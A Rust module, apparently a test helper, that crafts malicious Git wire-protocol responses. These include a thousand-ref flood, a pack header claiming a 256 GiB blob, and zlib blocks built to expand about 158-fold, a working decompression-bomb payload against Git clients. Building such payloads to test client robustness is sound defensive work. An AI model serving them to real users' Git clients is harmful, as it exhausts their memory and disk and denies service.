//! Git's wire format, as far as an attack needs it.

/// The commit that the server says it has.
const COMMIT: &str = "1111111111111111111111111111111111111111";

/// A line of the protocol.
fn line(text: &str) -> Vec<u8> {
    format!("{:04x}{text}", text.len() + 4).into_bytes()
}

/// The beginning of a list of refs.
pub(crate) fn listing() -> Vec<u8> {
    let capabilities = "shallow side-band-64k ofs-delta agent=git/2";
    let head = line(&format!("{COMMIT} HEAD\0{capabilities}\n"));
    [line("# service=git-upload-pack\n"), b"0000".to_vec(), head].concat()
}

/// The branch `main`, and the end of a list.
pub(crate) fn main_and_end() -> Vec<u8> {
    [line(&format!("{COMMIT} refs/heads/main\n")), b"0000".to_vec()].concat()
}

/// A thousand more refs.
pub(crate) fn more_refs() -> Vec<u8> {
    (0..1000).flat_map(|n| line(&format!("{COMMIT} refs/heads/other-{n}\n"))).collect()
}

/// Data of the pack, in its packet.
fn data(bytes: &[u8]) -> Vec<u8> {
    [format!("{:04x}\u{1}", bytes.len() + 5).into_bytes(), bytes.to_vec()].concat()
}

/// The answer to a wish for one commit.
pub(crate) fn shallow() -> Vec<u8> {
    [line(&format!("shallow {COMMIT}")), b"0000".to_vec()].concat()
}

/// The answer to a fetch, up to and with the header of a blob of 256 GiB.
pub(crate) fn beginning() -> Vec<u8> {
    // Version 2, one object; then type 3 (blob) and the size, seven bits a byte, four in the first.
    let mut pack = b"PACK\0\0\0\x02\0\0\0\x01".to_vec();
    pack.extend([0xb0, 0x80, 0x80, 0x80, 0x80, 0x40]);
    // The header of zlib.
    pack.extend([0x78, 0x01]);
    [line("NAK\n"), data(&pack)].concat()
}

/// A block of 32 KiB that is stored as it is.
pub(crate) fn stored() -> Vec<u8> {
    const SIZE: u16 = 1 << 15;
    let mut block = vec![0];
    block.extend(SIZE.to_le_bytes());
    block.extend((!SIZE).to_le_bytes());
    block.extend(std::iter::repeat_n(b'x', SIZE.into()));
    data(&block)
}

/// Bits from the lowest on, as zlib reads them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    count: usize,
}

impl Bits {
    fn add(&mut self, bits: &str) {
        for bit in bits.bytes() {
            if self.count.is_multiple_of(8) {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= (bit - b'0') << (self.count % 8);
            self.count += 1;
        }
    }
}

/// A block of some 32 KB that grows 158-fold: one byte, repeated 258 times with every 13 bits.
pub(crate) fn growing() -> Vec<u8> {
    let mut bits = Bits::default();
    // Not the last block, fixed codes, the byte 0.
    bits.add("01000110000");
    for _ in 0..20_000 {
        bits.add("1100010100000");
    }
    // The end of the block, and an empty stored one that fills the byte.
    bits.add("0000000000");
    bits.bytes.extend([0, 0, 0xff, 0xff]);
    data(&bits.bytes)
}
